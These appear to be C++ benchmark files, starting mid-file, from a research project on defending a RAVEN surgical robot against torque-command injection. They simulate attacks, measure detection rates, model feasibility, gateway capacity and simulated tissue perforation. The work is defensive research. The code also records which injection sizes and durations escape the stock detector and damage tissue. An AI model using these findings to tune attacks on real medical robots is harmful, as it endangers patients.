  using namespace rg;
  bench::header(
      "FIGURE 9: P(adverse impact), P(detect) vs injected error value and\n"
      "activation period — scenario B (torque command injection)");

  const DetectionThresholds thresholds = bench::standard_thresholds();
  const int reps = bench::reps(20);

  const double values[] = {1000, 2000, 4000, 8000, 12000, 16000, 20000, 24000, 28000, 32000};
  const std::uint32_t periods[] = {2, 4, 8, 16, 32, 64, 128, 256, 512};

  // (a) vs injected value, for a few fixed activation periods.
  for (std::uint32_t period : {8u, 64u, 256u}) {
    std::printf("\n  activation period = %u ms (%d reps per point)\n", period, reps);
    std::printf("  %10s %10s %12s %12s\n", "value", "P(impact)", "P(dyn det)", "P(RAVEN det)");
    for (double value : values) {
      const Cell c = run_cell(value, period, thresholds, reps);
      std::printf("  %10.0f %10.2f %12.2f %12.2f\n", value, c.p_impact, c.p_dyn, c.p_raven);
    }
  }

  // (b) vs activation period, for a few fixed values.
  for (double value : {8000.0, 20000.0, 32000.0}) {
    std::printf("\n  injected value = %.0f DAC counts (%d reps per point)\n", value, reps);
    std::printf("  %10s %10s %12s %12s\n", "period ms", "P(impact)", "P(dyn det)",
                "P(RAVEN det)");
    for (std::uint32_t period : periods) {
      const Cell c = run_cell(value, period, thresholds, reps);
      std::printf("  %10u %10.2f %12.2f %12.2f\n", period, c.p_impact, c.p_dyn, c.p_raven);
    }
  }

  std::printf("\n  Paper shape check: impact probability grows with value x period;\n"
              "  dynamic-model detection >= impact curve (preemptive); RAVEN detection\n"
              "  below impact curve for short/moderate injections (the attacker's window).\n");
  return 0;
}
