// EMBEDDED FEASIBILITY (paper Sec. IV.C, deployment discussion): can the
// detector's model run on the interface board's microcontroller?
//
// google-benchmark comparison of one 1 ms Euler model step in double
// precision vs the integer-only Q32.32 fixed-point implementation, plus
// the accumulated accuracy gap over a 1 s free response.  On a host CPU
// both are far below the budget; the fixed-point cycle count is what
// transfers to an MCU (no FPU required).
#include <benchmark/benchmark.h>

#include <cmath>
#include <cstdio>

#include "core/fixed_point_model.hpp"
#include "dynamics/raven_model.hpp"

namespace rg {
namespace {

void BM_DoubleEulerStep(benchmark::State& state) {
  const RavenDynamicsModel model;
  auto x = model.make_rest_state(JointVector{0.1, 1.4, 0.15});
  const Vec3 currents{0.5, -0.3, 0.2};
  for (auto _ : state) {
    x = model.step(x, currents, 1e-3, SolverKind::kEuler);
    benchmark::DoNotOptimize(x);
  }
}

void BM_FixedPointEulerStep(benchmark::State& state) {
  const RavenDynamicsModel ref;
  const FixedPointModel model;
  auto x = FixedPointModel::from_double(ref.make_rest_state(JointVector{0.1, 1.4, 0.15}));
  const std::array<Fixed64, 3> currents{Fixed64::from_double(0.5),
                                        Fixed64::from_double(-0.3),
                                        Fixed64::from_double(0.2)};
  const Fixed64 h = Fixed64::from_double(1e-3);
  for (auto _ : state) {
    x = model.step(x, currents, h);
    benchmark::DoNotOptimize(x);
  }
}

BENCHMARK(BM_DoubleEulerStep);
BENCHMARK(BM_FixedPointEulerStep);

}  // namespace
}  // namespace rg

int main(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();

  // Accuracy drift over 1 s of free response.
  using namespace rg;
  const RavenDynamicsModel ref;
  const FixedPointModel fixed;
  auto xd = ref.make_rest_state(JointVector{0.2, 1.2, 0.18});
  xd[3] = 5.0;
  auto xf = FixedPointModel::from_double(xd);
  const std::array<Fixed64, 3> zero{};
  const Fixed64 h = Fixed64::from_double(1e-3);
  for (int i = 0; i < 1000; ++i) {
    xd = ref.step(xd, Vec3::zero(), 1e-3, SolverKind::kEuler);
    xf = fixed.step(xf, zero, h);
  }
  const auto xfd = FixedPointModel::to_double(xf);
  double worst = 0.0;
  for (std::size_t i = 6; i < 9; ++i) worst = std::max(worst, std::abs(xfd[i] - xd[i]));
  std::printf("\nfixed-point vs double joint-position drift after 1 s: %.3e "
              "(rad|m; LUT trig + linear friction account for it)\n", worst);
  std::printf("conclusion: the 1 ms model step needs no FPU — an integer MCU or FPGA\n"
              "datapath in the USB board can host the monitor, as the paper proposes.\n");
  return 0;
}
