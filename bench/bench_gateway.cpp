// Gateway capacity benchmark: how many concurrent 1 kHz teleoperation
// sessions one gateway sustains, and the ingest->verdict latency
// distribution while doing it.
//
// Traffic is pre-generated master-console ITP streams injected through a
// LoopbackTransport in tick-sized slices, so the measurement covers the
// full service path — ingest classification, session table, SPSC shard
// rings, batched detection ticks — without socket noise.  A session
// count is "sustained" when the gateway processes its aggregate 1 kHz
// datagram load at least as fast as real time with zero backpressure
// drops and zero ring-full refusals.
//
// Results land in BENCH_gateway.json (schema "rg.bench.gateway/2";
// RG_BENCH_GATEWAY_JSON overrides the path).  RG_SCALE < 1 shrinks the
// session ladder, the capacity-search bound and the per-run duration
// for smoke passes.  Sections:
//
//   rows        fixed session ladder (continuity with rg.bench.gateway/1)
//   capacity    exponential probe + binary search for the headline
//               "max_sessions_sustained" — the largest session count the
//               gateway holds at >= 1x realtime with zero drops
//   batch_sweep the capacity point re-run at rx_batch 1 / 8 / 64, so the
//               recvmmsg-style batched drain's win is a reported number
//   admin       the largest sustained ladder case re-run with a polled
//               AdminServer (acceptance: < 2% realtime regression)
//   persist     the same case re-run with the crash-consistent state
//               plane journaling every admission and window advance to a
//               real directory (acceptance: < 2% realtime regression —
//               the tick path only pushes to a lock-free ring; all IO is
//               the flusher thread's)
#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "bench_util.hpp"
#include "net/master_console.hpp"
#include "obs/metrics.hpp"
#include "persist/state_plane.hpp"
#include "svc/admin.hpp"
#include "svc/gateway.hpp"
#include "svc/transport.hpp"
#include "trajectory/trajectory.hpp"

namespace rg::bench {
namespace {

/// Session trajectories only differ by `session % 16` (the radius salt),
/// so 16 pre-generated streams serve any session count without the
/// memory bill of one stream per session.
constexpr std::size_t kUniqueStreams = 16;

struct GatewayBenchRow {
  std::size_t sessions = 0;
  std::uint64_t ticks = 0;
  std::size_t rx_batch = 0;
  double wall_sec = 0.0;
  double datagrams_per_sec = 0.0;
  double realtime_ratio = 0.0;  ///< >= 1 means the 1 kHz load is sustained
  std::uint64_t accepted = 0;
  std::uint64_t backpressure_dropped = 0;
  std::uint64_t ring_full = 0;  ///< SPSC ring refusals summed over shards
  double p50_ns = 0.0;
  double p99_ns = 0.0;
};

std::string bench_path() {
  if (const char* env = std::getenv("RG_BENCH_GATEWAY_JSON")) return env;
  return "BENCH_gateway.json";
}

std::vector<std::vector<ItpBytes>> make_streams(std::uint64_t ticks) {
  std::vector<std::vector<ItpBytes>> streams(kUniqueStreams);
  for (std::size_t s = 0; s < kUniqueStreams; ++s) {
    auto trajectory = std::make_shared<CircleTrajectory>(
        Position{0.09, 0.0, -0.11}, 0.010 + 0.0001 * static_cast<double>(s), 2.5, 1.0e9);
    MasterConsole console(std::move(trajectory), PedalSchedule::hold_from(0.05));
    streams[s].reserve(ticks);
    for (std::uint64_t t = 0; t < ticks; ++t) streams[s].push_back(encode_itp(console.tick()));
  }
  return streams;
}

GatewayBenchRow run_one(const std::vector<std::vector<ItpBytes>>& streams, std::size_t sessions,
                        std::uint64_t ticks, std::size_t shards, std::size_t rx_batch = 64,
                        bool with_admin = false, std::uint64_t* polls_out = nullptr,
                        rg::persist::StatePlane* plane = nullptr) {
  obs::Registry::global().reset();

  svc::LoopbackTransport transport;
  svc::GatewayConfig config;
  config.shards = shards;
  config.threaded = true;
  config.max_sessions = sessions;
  config.rx_batch = rx_batch;
  config.idle_timeout_ms = 1u << 30;  // synthetic clock; no eviction mid-run
  config.persist = plane;
  if (with_admin) {
    // The synthetic clock advances 1 ms per 64-tick slice, so a 4 ms
    // publish period re-publishes the snapshot every ~256 ticks — the
    // same cadence the default 250 ms gives a real-time 1 kHz gateway.
    config.stats_publish_period_ms = 4;
  }
  svc::TeleopGateway gateway(config, transport);

  std::unique_ptr<svc::AdminServer> admin;
  std::atomic<bool> poll_stop{false};
  std::atomic<std::uint64_t> polls{0};
  std::thread poller;
  if (with_admin) {
    gateway.publish_snapshot(0);
    svc::AdminConfig admin_config;
    admin_config.port = 0;
    admin = std::make_unique<svc::AdminServer>(admin_config, &gateway);
    const std::uint16_t admin_port = admin->bound_port();
    poller = std::thread([&poll_stop, &polls, admin_port] {
      while (!poll_stop.load(std::memory_order_relaxed)) {
        const auto metrics = svc::http_get("127.0.0.1", admin_port, "/metrics");
        const auto stats = svc::http_get("127.0.0.1", admin_port, "/stats");
        if (metrics.ok() && stats.ok()) polls.fetch_add(1, std::memory_order_relaxed);
        for (int i = 0; i < 50 && !poll_stop.load(std::memory_order_relaxed); ++i) {
          std::this_thread::sleep_for(std::chrono::milliseconds(20));
        }
      }
    });
  }

  constexpr std::uint64_t kSliceTicks = 64;  // bounds the loopback queue
  const auto t0 = std::chrono::steady_clock::now();
  std::uint64_t now_ms = 1;
  for (std::uint64_t tick = 0; tick < ticks; tick += kSliceTicks) {
    const std::uint64_t slice_end = std::min(ticks, tick + kSliceTicks);
    for (std::uint64_t t = tick; t < slice_end; ++t) {
      for (std::size_t s = 0; s < sessions; ++s) {
        const svc::Endpoint from{0x7f000001u, static_cast<std::uint16_t>(20000 + s)};
        transport.inject(from, std::span<const std::uint8_t>{streams[s % kUniqueStreams][t]});
      }
    }
    while (transport.pending() > 0) (void)gateway.pump(now_ms);
    // Flush the slice through the shards before injecting the next one:
    // the timed region still covers the full service path, but the
    // bounded shard rings only ever see one slice of backlog — drops
    // then mean genuine overload, not an open-loop injection artifact.
    gateway.drain();
    ++now_ms;
  }
  gateway.drain();
  const double wall = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  if (with_admin) {
    poll_stop.store(true);
    poller.join();
    admin->stop();
    if (polls_out != nullptr) *polls_out = polls.load();
  }
  const svc::GatewayStats stats = gateway.stats();

  GatewayBenchRow row;
  row.sessions = sessions;
  row.ticks = ticks;
  row.rx_batch = rx_batch;
  row.wall_sec = wall;
  row.accepted = stats.accepted;
  row.backpressure_dropped = stats.backpressure_dropped;
  for (const svc::ShardPipelineStats& shard : gateway.shard_stats()) row.ring_full += shard.ring_full;
  row.datagrams_per_sec = static_cast<double>(stats.accepted) / wall;
  const double sim_sec = static_cast<double>(ticks) * 1.0e-3;  // 1 kHz sessions
  row.realtime_ratio = sim_sec / wall;
  const obs::MetricsSnapshot snap = obs::Registry::global().snapshot();
  if (const obs::HistogramData* h = snap.histogram("rg.gw.ingest_to_verdict_ns")) {
    row.p50_ns = h->percentile(50.0);
    row.p99_ns = h->percentile(99.0);
  }
  gateway.shutdown();
  return row;
}

bool sustained(const GatewayBenchRow& r) {
  return r.realtime_ratio >= 1.0 && r.backpressure_dropped == 0 && r.ring_full == 0;
}

struct CapacityResult {
  std::size_t max_sessions = 0;   ///< largest sustained probe (0 = none)
  bool saturated_bound = false;   ///< still sustained at the search cap
  GatewayBenchRow best;           ///< the row measured at max_sessions
  std::vector<GatewayBenchRow> probes;
};

/// Capacity search: double the session count from `start` until the
/// gateway stops sustaining realtime, then binary-search the boundary.
/// Every probe runs the same timed slice loop as the ladder.
CapacityResult find_capacity(const std::vector<std::vector<ItpBytes>>& streams,
                             std::uint64_t ticks, std::size_t shards, std::size_t start,
                             std::size_t cap) {
  CapacityResult result;
  const auto probe = [&](std::size_t n) {
    const GatewayBenchRow row = run_one(streams, n, ticks, shards);
    std::printf("capacity probe %4zu sessions: %8.0f dgrams/s, %.2fx realtime, ring_full %llu%s\n",
                n, row.datagrams_per_sec, row.realtime_ratio,
                static_cast<unsigned long long>(row.ring_full),
                sustained(row) ? "" : "  [not sustained]");
    result.probes.push_back(row);
    if (sustained(row) && n > result.max_sessions) {
      result.max_sessions = n;
      result.best = row;
    }
    return sustained(row);
  };

  std::size_t lo = 0;  // largest known-sustained
  std::size_t hi = 0;  // smallest known-failed
  for (std::size_t n = std::max<std::size_t>(start, 1); n <= cap; n *= 2) {
    if (probe(n)) {
      lo = n;
    } else {
      hi = n;
      break;
    }
  }
  if (hi == 0) {
    // Sustained all the way to the bound — report it, flagged.
    result.saturated_bound = lo == 0 ? false : true;
    return result;
  }
  while (hi - lo > std::max<std::size_t>(1, lo / 16)) {
    const std::size_t mid = lo + (hi - lo) / 2;
    if (probe(mid)) {
      lo = mid;
    } else {
      hi = mid;
    }
  }
  return result;
}

struct AdminOverhead {
  std::size_t sessions = 0;
  double realtime_ratio = 0.0;           ///< with admin attached, polled at 1 Hz
  double baseline_realtime_ratio = 0.0;  ///< same load, no admin plane
  double overhead_pct = 0.0;             ///< acceptance: < 2
  std::uint64_t polls = 0;
};

struct PersistOverhead {
  std::size_t sessions = 0;
  double realtime_ratio = 0.0;           ///< with the state plane journaling
  double baseline_realtime_ratio = 0.0;  ///< same load, no persistence
  double overhead_pct = 0.0;             ///< acceptance: < 2
  std::uint64_t ops_submitted = 0;
  std::uint64_t ops_dropped = 0;
  std::uint64_t wal_records = 0;
  std::uint64_t snapshots = 0;
};

void write_row(std::ofstream& os, const GatewayBenchRow& r) {
  os << "{\"sessions\": " << r.sessions << ", \"ticks\": " << r.ticks
     << ", \"rx_batch\": " << r.rx_batch << ", \"wall_sec\": " << r.wall_sec
     << ", \"datagrams_per_sec\": " << r.datagrams_per_sec
     << ", \"realtime_ratio\": " << r.realtime_ratio << ", \"accepted\": " << r.accepted
     << ", \"backpressure_dropped\": " << r.backpressure_dropped
     << ", \"ring_full\": " << r.ring_full << ", \"p50_ns\": " << r.p50_ns
     << ", \"p99_ns\": " << r.p99_ns << "}";
}

void write_json(const std::vector<GatewayBenchRow>& rows, std::size_t shards,
                const CapacityResult& capacity, const std::vector<GatewayBenchRow>& batch_sweep,
                const AdminOverhead* admin, const PersistOverhead* persist) {
  std::size_t sustained_sessions = 0;
  double p50 = 0.0;
  double p99 = 0.0;
  for (const GatewayBenchRow& r : rows) {
    if (sustained(r) && r.sessions > sustained_sessions) {
      sustained_sessions = r.sessions;
      p50 = r.p50_ns;
      p99 = r.p99_ns;
    }
  }
  if (sustained_sessions == 0 && !rows.empty()) {  // report the smallest load's latency anyway
    p50 = rows.front().p50_ns;
    p99 = rows.front().p99_ns;
  }
  std::ofstream os(bench_path());
  if (!os) return;
  os.precision(17);
  os << "{\n  \"schema\": \"rg.bench.gateway/2\",\n  \"shards\": " << shards
     << ",\n  \"sessions_sustained\": " << sustained_sessions
     << ",\n  \"p50_ingest_to_verdict_ns\": " << p50
     << ",\n  \"p99_ingest_to_verdict_ns\": " << p99;
  os << ",\n  \"capacity\": {\n    \"max_sessions_sustained\": " << capacity.max_sessions
     << ",\n    \"saturated_search_bound\": " << (capacity.saturated_bound ? "true" : "false")
     << ",\n    \"realtime_ratio\": " << capacity.best.realtime_ratio
     << ",\n    \"datagrams_per_sec\": " << capacity.best.datagrams_per_sec
     << ",\n    \"ring_full\": " << capacity.best.ring_full
     << ",\n    \"p99_ns\": " << capacity.best.p99_ns << ",\n    \"probes\": [\n";
  for (std::size_t i = 0; i < capacity.probes.size(); ++i) {
    os << "      ";
    write_row(os, capacity.probes[i]);
    os << (i + 1 < capacity.probes.size() ? ",\n" : "\n");
  }
  os << "    ]\n  }";
  os << ",\n  \"batch_sweep\": [\n";
  for (std::size_t i = 0; i < batch_sweep.size(); ++i) {
    os << "    ";
    write_row(os, batch_sweep[i]);
    os << (i + 1 < batch_sweep.size() ? ",\n" : "\n");
  }
  os << "  ]";
  if (admin != nullptr) {
    os << ",\n  \"admin\": {\"sessions\": " << admin->sessions
       << ", \"realtime_ratio\": " << admin->realtime_ratio
       << ", \"baseline_realtime_ratio\": " << admin->baseline_realtime_ratio
       << ", \"overhead_pct\": " << admin->overhead_pct << ", \"polls\": " << admin->polls << "}";
  }
  if (persist != nullptr) {
    os << ",\n  \"persist\": {\"sessions\": " << persist->sessions
       << ", \"realtime_ratio\": " << persist->realtime_ratio
       << ", \"baseline_realtime_ratio\": " << persist->baseline_realtime_ratio
       << ", \"overhead_pct\": " << persist->overhead_pct
       << ", \"ops_submitted\": " << persist->ops_submitted
       << ", \"ops_dropped\": " << persist->ops_dropped
       << ", \"wal_records\": " << persist->wal_records
       << ", \"snapshots\": " << persist->snapshots << "}";
  }
  os << ",\n  \"rows\": [\n";
  for (std::size_t i = 0; i < rows.size(); ++i) {
    os << "    ";
    write_row(os, rows[i]);
    os << (i + 1 < rows.size() ? ",\n" : "\n");
  }
  os << "  ]\n}\n";
}

}  // namespace
}  // namespace rg::bench

int main() {
  using namespace rg::bench;

  const double s = scale();
  const auto ticks = static_cast<std::uint64_t>(2000 * s) > 0
                         ? static_cast<std::uint64_t>(2000 * s)
                         : 50;
  std::vector<std::size_t> ladder;
  std::size_t capacity_start = 0;
  std::size_t capacity_cap = 0;
  if (s >= 1.0) {
    ladder = {8, 16, 32, 64};
    capacity_start = 64;
    capacity_cap = 4096;
  } else {
    ladder = {2, 4};
    capacity_start = 4;
    capacity_cap = 16;
  }
  const std::size_t shards = 4;

  const std::vector<std::vector<rg::ItpBytes>> streams = make_streams(ticks);

  std::vector<GatewayBenchRow> rows;
  for (const std::size_t n : ladder) {
    const GatewayBenchRow row = run_one(streams, n, ticks, shards);
    std::printf(
        "gateway %3zu sessions x %llu ticks: %8.0f dgrams/s, %.2fx realtime, "
        "p50 %6.0f ns, p99 %7.0f ns, backpressure %llu\n",
        row.sessions, static_cast<unsigned long long>(row.ticks), row.datagrams_per_sec,
        row.realtime_ratio, row.p50_ns, row.p99_ns,
        static_cast<unsigned long long>(row.backpressure_dropped));
    rows.push_back(row);
  }

  // Headline: binary-search the sustained-capacity boundary.
  const CapacityResult capacity = find_capacity(streams, ticks, shards, capacity_start,
                                                capacity_cap);
  std::printf("capacity: %zu sessions sustained at >= 1x realtime%s\n", capacity.max_sessions,
              capacity.saturated_bound ? " (saturated search bound)" : "");

  // Batch sweep: the same load at rx_batch 1 / 8 / 64 quantifies the
  // batched-drain win at the capacity point.
  std::vector<GatewayBenchRow> batch_sweep;
  const std::size_t sweep_sessions =
      capacity.max_sessions > 0 ? capacity.max_sessions : ladder.back();
  for (const std::size_t rx_batch : {std::size_t{1}, std::size_t{8}, std::size_t{64}}) {
    const GatewayBenchRow row = run_one(streams, sweep_sessions, ticks, shards, rx_batch);
    std::printf("batch   %3zu sessions, rx_batch %2zu: %8.0f dgrams/s, %.2fx realtime\n",
                row.sessions, row.rx_batch, row.datagrams_per_sec, row.realtime_ratio);
    batch_sweep.push_back(row);
  }

  // Admin-plane overhead: re-run the largest sustained ladder case
  // back-to-back without and with a polled AdminServer, so the baseline
  // shares the machine state of the measured run.
  std::size_t admin_sessions = rows.empty() ? 0 : rows.front().sessions;
  for (const GatewayBenchRow& r : rows) {
    if (sustained(r) && r.sessions > admin_sessions) admin_sessions = r.sessions;
  }
  AdminOverhead admin;
  if (admin_sessions > 0) {
    const GatewayBenchRow base = run_one(streams, admin_sessions, ticks, shards);
    std::uint64_t polls = 0;
    const GatewayBenchRow polled =
        run_one(streams, admin_sessions, ticks, shards, 64, true, &polls);
    admin.sessions = admin_sessions;
    admin.realtime_ratio = polled.realtime_ratio;
    admin.baseline_realtime_ratio = base.realtime_ratio;
    admin.overhead_pct =
        base.realtime_ratio > 0.0
            ? 100.0 * (base.realtime_ratio - polled.realtime_ratio) / base.realtime_ratio
            : 0.0;
    admin.polls = polls;
    std::printf(
        "admin   %3zu sessions: %.2fx realtime vs %.2fx baseline (%+.2f%% overhead, "
        "%llu polls)\n",
        admin.sessions, admin.realtime_ratio, admin.baseline_realtime_ratio, admin.overhead_pct,
        static_cast<unsigned long long>(admin.polls));
  }

  // Persistence overhead: the same case with the crash-consistent state
  // plane journaling every admission/window advance to a real directory.
  // The tick path only pushes a StateOp to a lock-free ring; the flusher
  // thread owns all IO — so the capacity headline must not move.
  PersistOverhead persist;
  if (admin_sessions > 0) {
    const GatewayBenchRow base = run_one(streams, admin_sessions, ticks, shards);
    const std::string pdir = bench_path() + ".state";
    std::filesystem::remove_all(pdir);
    rg::persist::StatePlaneConfig pc;
    pc.dir = pdir;
    auto plane_r = rg::persist::StatePlane::open(pc);
    if (plane_r.ok()) {
      rg::persist::StatePlane& plane = *plane_r.value();
      const GatewayBenchRow with =
          run_one(streams, admin_sessions, ticks, shards, 64, false, nullptr, &plane);
      plane.stop();
      const rg::persist::StatePlaneStats ps = plane.stats();
      persist.sessions = admin_sessions;
      persist.realtime_ratio = with.realtime_ratio;
      persist.baseline_realtime_ratio = base.realtime_ratio;
      persist.overhead_pct =
          base.realtime_ratio > 0.0
              ? 100.0 * (base.realtime_ratio - with.realtime_ratio) / base.realtime_ratio
              : 0.0;
      persist.ops_submitted = ps.ops_submitted;
      persist.ops_dropped = ps.ops_dropped;
      persist.wal_records = ps.store.wal_records;
      persist.snapshots = ps.store.snapshots;
      std::printf(
          "persist %3zu sessions: %.2fx realtime vs %.2fx baseline (%+.2f%% overhead, "
          "%llu ops, %llu dropped, %llu wal records, %llu snapshots)\n",
          persist.sessions, persist.realtime_ratio, persist.baseline_realtime_ratio,
          persist.overhead_pct, static_cast<unsigned long long>(persist.ops_submitted),
          static_cast<unsigned long long>(persist.ops_dropped),
          static_cast<unsigned long long>(persist.wal_records),
          static_cast<unsigned long long>(persist.snapshots));
    }
    std::filesystem::remove_all(pdir);
  }
  write_json(rows, shards, capacity, batch_sweep, admin_sessions > 0 ? &admin : nullptr,
             persist.sessions > 0 ? &persist : nullptr);
  return 0;
}
