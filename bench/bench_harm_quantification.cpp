// HARM QUANTIFICATION (extension): P(tissue damage) vs injected value,
// with and without the dynamic-model defense.
//
// The paper argues the attacks matter because "tearing or perforation of
// tissues" follows from abrupt jumps (its FDA adverse-event framing).
// With the tissue model in the plant, that is now a measurable outcome:
// the tool works 0.5 mm above a compliant surface while scenario-B
// injections of increasing magnitude arrive; we count perforation/shear
// events on the stock robot vs under dynamic-model mitigation.
#include <cstdio>
#include <memory>

#include "bench_util.hpp"

namespace rg {
namespace {

std::shared_ptr<const Trajectory> hover_trajectory(double z) {
  // Gentle lateral work at a fixed height, as when dissecting along a
  // tissue plane.
  return std::make_shared<WaypointTrajectory>(
      std::vector<Position>{{0.085, -0.015, z}, {0.095, 0.015, z}, {0.105, -0.010, z},
                            {0.090, 0.012, z}, {0.100, -0.014, z}},
      /*speed=*/0.015);
}

struct HarmCell {
  int damaged = 0;
  int perforated = 0;
  int runs = 0;
};

struct HarmOutcome {
  bool damaged = false;
  bool perforated = false;
};

HarmCell run_cell(double magnitude, const std::optional<DetectionThresholds>& thresholds,
                  MitigationMode mitigation, int reps) {
  // The console streams *relative* motions and the software anchors the
  // desired pose at the tool's position on pedal-down, so the tissue is
  // placed relative to where the tool actually works: engage the pedal,
  // then slide the surface in 0.5 mm below the tool.  The two-phase run
  // (engage, then insert tissue and attack) is a custom campaign body;
  // each job writes its tissue verdict into its own slot.
  std::vector<HarmOutcome> outcomes(static_cast<std::size_t>(reps));
  std::vector<CampaignJob> jobs(static_cast<std::size_t>(reps));
  for (int rep = 0; rep < reps; ++rep) {
    CampaignJob& job = jobs[static_cast<std::size_t>(rep)];
    job.params = bench::standard_session();
    job.params.seed = 9000 + static_cast<std::uint64_t>(rep) * 61;
    job.label = "harm";
    job.body = [params = job.params, thresholds, mitigation, magnitude, rep,
                slot = &outcomes[static_cast<std::size_t>(rep)]]() {
      SimConfig cfg = make_session(params, thresholds, mitigation);
      cfg.trajectory = hover_trajectory(0.0);  // lateral work at constant height

      SurgicalSim sim(std::move(cfg));
      sim.run(1.3);  // homing done, pedal down at 1.2 s, pose anchored

      // Dissection posture: the tool works 1.5 mm *inside* the tissue.
      TissueParams tissue;
      tissue.surface_point = sim.plant().end_effector() + Vec3{0.0, 0.0, 1.5e-3};
      tissue.normal = Vec3{0.0, 0.0, 1.0};
      tissue.rupture_depth = 4.0e-3;
      tissue.shear_speed_limit = 0.12;
      sim.plant().add_tissue(tissue);

      // Alternate the corrupted channel and sign so the jump direction
      // covers plunge (elbow, negative) and lateral sweep (shoulder).
      AttackSpec spec;
      spec.variant = AttackVariant::kTorqueInjection;
      spec.magnitude = (rep % 2 == 0) ? -magnitude : magnitude;
      spec.target_channel = (rep % 2 == 0) ? 1 : 0;
      spec.duration_packets = 96;
      spec.delay_packets = 400 + static_cast<std::uint32_t>(rep) * 133;
      spec.seed = 95000 + static_cast<std::uint64_t>(rep) * 19;
      AttackArtifacts artifacts;
      if (magnitude > 0.0) {
        artifacts = build_attack(spec);
        sim.install(artifacts);
      }

      sim.run(params.duration_sec - 1.3);
      slot->damaged = sim.plant().tissue()->damaged();
      slot->perforated = sim.plant().tissue()->perforated();

      AttackRunResult result;
      result.spec = spec;
      result.outcome = sim.outcome();
      result.injections = artifacts.injections();
      result.first_injection_tick = artifacts.first_injection_tick();
      return result;
    };
  }
  (void)bench::run_campaign(std::move(jobs));

  HarmCell cell;
  for (const HarmOutcome& o : outcomes) {
    ++cell.runs;
    if (o.damaged) ++cell.damaged;
    if (o.perforated) ++cell.perforated;
  }
  return cell;
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header(
      "HARM QUANTIFICATION: P(tissue damage) vs injected value\n"
      "(tool dissecting 1.5 mm inside a compliant surface; scenario B, 96 ms)");

  const DetectionThresholds thresholds = bench::standard_thresholds();
  const int reps = bench::reps(10);

  std::printf("\n  %10s %18s %24s\n", "value", "stock robot", "with dynamic-model");
  std::printf("  %10s %9s %8s %12s %11s\n", "(DAC)", "P(damage)", "P(perf)", "P(damage)",
              "P(perf)");
  for (double magnitude : {0.0, 8000.0, 14000.0, 20000.0, 26000.0, 32000.0}) {
    const HarmCell stock = run_cell(magnitude, std::nullopt, MitigationMode::kObserveOnly, reps);
    const HarmCell guarded = run_cell(magnitude, thresholds, MitigationMode::kArmed, reps);
    std::printf("  %10.0f %9.2f %8.2f %12.2f %11.2f\n", magnitude,
                static_cast<double>(stock.damaged) / stock.runs,
                static_cast<double>(stock.perforated) / stock.runs,
                static_cast<double>(guarded.damaged) / guarded.runs,
                static_cast<double>(guarded.perforated) / guarded.runs);
  }

  std::printf("\n  Reading: clean surgery (value 0) never damages the tissue; injection\n"
              "  harm rises with magnitude on the stock robot; preemptive mitigation\n"
              "  removes most (not all — momentum) of the clinical damage.  This is the\n"
              "  paper's FDA adverse-event narrative, measured.\n");
  return 0;
}
