// bench_obs_overhead: cost of the telemetry layer on the 1 kHz control
// loop.
//
// Measures mean wall-clock cost per SurgicalSim tick (the full
// console->control->pipeline->board->plant cycle, detection armed) in two
// configurations:
//
//   quiet      — telemetry as shipped: RG_SPAN/RG_COUNT write to the
//                metrics registry's per-thread shard, no sinks attached.
//   full sinks — TraceWriter installed, EventLog attached, FlightRecorder
//                and a bounded TraceRecorder fed every tick (the CLI's
//                --metrics-out --trace-out --events-out mode).
//
// Plus microbenchmarks of a bare RG_SPAN and RG_COUNT. When built with
// -DRG_OBS_DISABLED=ON the same binary reports the compiled-out numbers:
// RG_SPAN/RG_COUNT are `(void)0` there, so "quiet" is the pristine loop —
// comparing tick_ns_quiet across the two builds is the ≤1% overhead check
// (scripts/tier1.sh keeps the acceptance criterion on the compiled-out
// delta).
//
// Also measures Registry::snapshot() latency while 8 writer threads
// hammer the hot path — the admin plane (src/svc/admin.cpp) calls
// snapshot() per /metrics poll, so its p99 must stay far off the 1 ms
// tick budget for the poll to be harmless.  Gated via the "pass" field.
//
// Results land in BENCH_obs.json (schema "rg.bench.obs/2";
// RG_BENCH_OBS_JSON overrides the path).
#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdlib>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include "bench_util.hpp"
#include "obs/obs.hpp"
#include "sim/surgical_sim.hpp"
#include "sim/trace.hpp"

namespace rg {
namespace {

using Clock = std::chrono::steady_clock;

SimConfig overhead_session() {
  // Detection armed with un-trippable thresholds: the estimator/detector
  // hot path runs every tick, but no alarm ends the session early.
  DetectionThresholds inf;
  inf.motor_vel = inf.motor_acc = inf.joint_vel = Vec3::filled(1.0e18);
  SessionParams p = bench::standard_session();
  return make_session(p, inf, MitigationMode::kObserveOnly);
}

/// Mean ns per sim tick over `seconds` of simulated time (after warmup).
double measure_tick_ns(SurgicalSim& sim, double warmup_sec, double seconds) {
  sim.run(warmup_sec);
  const std::uint64_t start_ticks = sim.clock().ticks();
  const auto start = Clock::now();
  sim.run(seconds);
  const auto elapsed =
      std::chrono::duration_cast<std::chrono::nanoseconds>(Clock::now() - start).count();
  const std::uint64_t ticks = sim.clock().ticks() - start_ticks;
  return ticks > 0 ? static_cast<double>(elapsed) / static_cast<double>(ticks) : 0.0;
}

double measure_span_ns(int iters) {
  const auto start = Clock::now();
  for (int i = 0; i < iters; ++i) {
    RG_SPAN("bench.noop");
  }
  const auto elapsed =
      std::chrono::duration_cast<std::chrono::nanoseconds>(Clock::now() - start).count();
  return static_cast<double>(elapsed) / iters;
}

double measure_count_ns(int iters) {
  const auto start = Clock::now();
  for (int i = 0; i < iters; ++i) {
    RG_COUNT("rg.bench.noop", 1);
  }
  const auto elapsed =
      std::chrono::duration_cast<std::chrono::nanoseconds>(Clock::now() - start).count();
  return static_cast<double>(elapsed) / iters;
}

struct SnapshotUnderWriters {
  double p50_ns = 0.0;
  double p99_ns = 0.0;
  int samples = 0;
  int writers = 0;
};

/// Latency distribution of Registry::snapshot() while `writers` threads
/// saturate the lock-free shard path (one RG_COUNT + one RG_SPAN each
/// iteration, mirroring a busy gateway pump).
SnapshotUnderWriters measure_snapshot_under_writers(int writers, int samples) {
  std::atomic<bool> stop{false};
  std::vector<std::thread> pool;
  pool.reserve(static_cast<std::size_t>(writers));
  for (int w = 0; w < writers; ++w) {
